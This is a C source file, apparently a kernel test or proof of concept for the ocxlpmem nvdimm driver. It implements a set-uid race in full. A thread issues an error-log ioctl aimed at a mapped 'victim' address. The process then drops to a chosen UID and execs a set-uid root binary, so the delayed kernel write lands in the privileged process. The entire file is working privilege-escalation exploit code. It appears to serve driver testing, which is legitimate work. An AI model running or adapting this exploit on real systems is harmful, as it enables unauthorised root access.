// SPDX-License-Identifier: GPL-2.0-only
/*
 * set-uid-attack NODE VICTIM UID: asks for an error log at an address that is the
 * victim's, becomes the user UID, and then VICTIM, with the socket to the simulator
 * still open: its answer comes when VICTIM, set-uid root, has the same process id.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <nvdimm/ocxlpmem.h>

#include "set_uid.h"

static int node;

static void *ask(void *context)
{
	struct ioctl_ocxlpmem_error_log *arg = context;
	int rc = ioctl(node, IOCTL_OCXLPMEM_ERROR_LOG, arg);

	printf("the answer came too early: %d, %s\n", rc, strerror(rc ? errno : 0));
	exit(1);
}

int main(int argc, char **argv)
{
	struct ioctl_ocxlpmem_error_log arg = {
		.buf_ptr = VICTIM_ADDRESS,
		.buf_size = VICTIM_SIZE,
	};
	pthread_t thread;
	int fd;

	if (argc != 4)
		return 2;
	if (mmap((void *)VICTIM_ADDRESS, VICTIM_SIZE, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED)
		return 2;
	node = open(argv[1], O_RDWR);
	if (node < 0) {
		perror(argv[1]);
		return 2;
	}
	if (pthread_create(&thread, NULL, ask, &arg))
		return 2;
	usleep(300000);
	for (fd = 3; fd < 64; fd++)
		fcntl(fd, F_SETFD, 0);
	if (setresgid(atoi(argv[3]), atoi(argv[3]), atoi(argv[3])) ||
	    setresuid(atoi(argv[3]), atoi(argv[3]), atoi(argv[3])))
		return 2;
	execl(argv[2], argv[2], (char *)NULL);
	perror(argv[2]);
	return 2;
}
